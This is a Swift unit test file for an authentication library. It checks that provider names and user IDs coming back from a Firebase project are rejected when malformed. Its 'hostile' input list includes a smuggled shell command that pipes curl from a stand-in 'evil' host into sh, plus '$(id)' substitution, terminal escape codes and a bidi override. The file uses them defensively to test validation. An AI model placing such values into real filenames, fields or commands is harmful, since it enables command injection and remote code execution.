import AuthCoreTesting
import Testing

@testable import AuthCore

/// A Firebase project's names for providers and accounts, in tables, errors and commands to paste.
@Suite struct `Names from a Firebase project` {
    private let bench: FirebaseBench
    private let now = ProjectDouble.now

    init() throws { bench = try FirebaseBench() }

    static let hostile = [
        "x;curl${IFS}evil|sh;#", "\u{1B}[31mred", "\u{9B}2J", "a\u{202E}b", "a\nb", "a b", "",
        String(repeating: "x", count: 129),
        "$(id)", "it's",
    ]

    private func refused(_ body: () async throws -> Void) async -> Bool {
        do {
            try await body()
            return false
        } catch {
            return error == FirebaseError.invalidResponse(.noProviderID)
        }
    }

    @Test(arguments: hostile)
    func `a conflict with an invalid provider name is refused`(name: String) async {
        bench.project.on(
            "/v1/accounts:signInWithIdp",
            .json(["needConfirmation": true, "email": "a@example.com", "verifiedProvider": [.string(name)]]))
        #expect(await refused { _ = try await bench.directory().signIn(bench.credential("google.com"), now: now) })
    }

    @Test(arguments: hostile)
    func `a lookup of sign-in methods with an invalid provider name is refused`(name: String) async {
        bench.project.on("/v1/accounts:createAuthUri", .json(["registered": true, "signinMethods": [.string(name)]]))
        #expect(await refused { _ = try await bench.directory().providers(of: "a@example.com") })
    }

    @Test(arguments: hostile)
    func `account data with an invalid provider name is refused, and no account is stored`(name: String) async throws {
        bench.project.signsIn(try bench.project.idToken())
        let entry: JSONObject = ["providerId": .string(name), "rawId": "1"]
        bench.project.on(
            "/v1/accounts:lookup",
            .json(["users": [["localId": "uid-1", "providerUserInfo": [.object(entry)]]]]))
        #expect(await refused { _ = try await bench.directory().signIn(bench.credential("google.com"), now: now) })
        #expect(try await bench.sessionStore.accounts().isEmpty)
    }

    @Test func `every valid Firebase provider ID and UID is accepted, and an invalid UID is not`() async throws {
        for name in ["google.com", "oidc.my-work_1", "saml.corp", "phone", "playgames.google.com", "emailLink"] {
            #expect(IdentityKey.isProviderID(name), "\(name)")
        }
        for uid in ["uid-1", "user 1", "ñandú", "a@b.c", String(repeating: "x", count: 128)] {
            #expect(Account.isUID(uid), "\(uid)")
        }
        for uid in ["", String(repeating: "x", count: 129), "\u{1B}[31m", "a\u{202E}", "\u{9B}", "a\nb"] {
            #expect(!Account.isUID(uid))
        }
    }
}
